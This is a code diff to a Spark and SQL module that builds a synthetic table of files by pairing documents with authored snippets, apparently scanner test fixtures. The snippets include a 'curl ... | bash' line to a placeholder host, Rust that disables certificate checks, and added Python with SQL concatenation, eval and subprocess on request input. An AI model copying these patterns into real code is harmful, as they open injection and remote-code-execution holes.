@@ -1,4 +1,4 @@
-"""The relation files(file_id, path, language, content) made from documents and authored snippets, in Spark and in SQL.
+"""The relation files(file_id, path, language, content) made from whole documents, each with an authored snippet after it, in Spark and in SQL.
 
 Snippets are written with ~ for a line end and ^ for a single quote; secret-shaped text is put together when a query runs.
 """
@@ -25,9 +25,8 @@ SNIPPETS = [
     (".rs", "rust", 'fn main() { unsafe { f(); } Command::new("sh"); c.danger_accept_invalid_certs(true); }~'),
     (".sql", "sql", 'begin execute immediate v; end;~select 1;~'),
     (".md", "markdown", '# Notes~curl https://x.example.com/i | bash~'),
+    (".py", "python", 'from flask import request~import sys~name = request.args.get("n")~q = "select a from t where n = " + name~cur.execute(q)~cur.execute("select %s" % x)~go = eval~go(name)~open(sys.argv[1])~code = compile(src, "exec")~import subprocess~subprocess.call(name)~'),
 ]
-#: Characters of a document's text that stand before a snippet that is not code to be parsed.
-PROSE = 400
 
 
 def _secret(name: str) -> list[tuple[str, str]]:
@@ -48,8 +47,7 @@ _BODY = f"replace(replace(replace(replace(s.body, '~', chr(10)), '^', chr(39)),
 #: The same relation for SQL engines.
 FILES_SQL = f"""
 SELECT d.doc_id AS file_id, concat('src/', d.source, '/f', CAST(d.doc_id AS STRING), s.ext) AS path, s.language,
-  CASE WHEN s.language = 'python' THEN concat('# file ', CAST(d.doc_id AS STRING), chr(10), {_BODY})
-  ELSE concat(replace(substr(d.text, 1, {PROSE}), chr(10), ' '), chr(10), {_BODY}) END AS content
+  concat(CASE WHEN s.language = 'python' THEN '# ' ELSE '' END, replace(replace(d.text, chr(10), ' '), chr(13), ' '), chr(10), {_BODY}) AS content
 FROM documents d JOIN (VALUES {snippet_values()}) AS s(k, ext, language, body) ON d.doc_id % {len(SNIPPETS)} = s.k
 """
 
@@ -66,6 +64,6 @@ def files(spark: SparkSession, sf_dir: str) -> DataFrame:
     for name in ("<AKIA>", "<SLACK>"):
         body = F.replace(body, F.lit(name), F.concat(*(F.repeat(F.lit(t), int(n)) if n else F.lit(t) for t, n in _secret(name))))
     joined = d.join(F.broadcast(s), F.col("doc_id") % len(SNIPPETS) == F.col("k"))
-    prose = F.translate(F.substring("text", 1, PROSE), "\n", " ")
-    head = F.when(F.col("language") == "python", F.concat(F.lit("# file "), F.col("doc_id").cast("string"))).otherwise(prose)
+    prose = F.translate("text", "\n\r", "  ")
+    head = F.when(F.col("language") == "python", F.concat(F.lit("# "), prose)).otherwise(prose)
     return joined.select(F.col("doc_id").alias("file_id"), F.concat(F.lit("src/"), "source", F.lit("/f"), F.col("doc_id").cast("string"), "ext").alias("path"), "language", F.concat(head, F.lit("\n"), body).alias("content"))
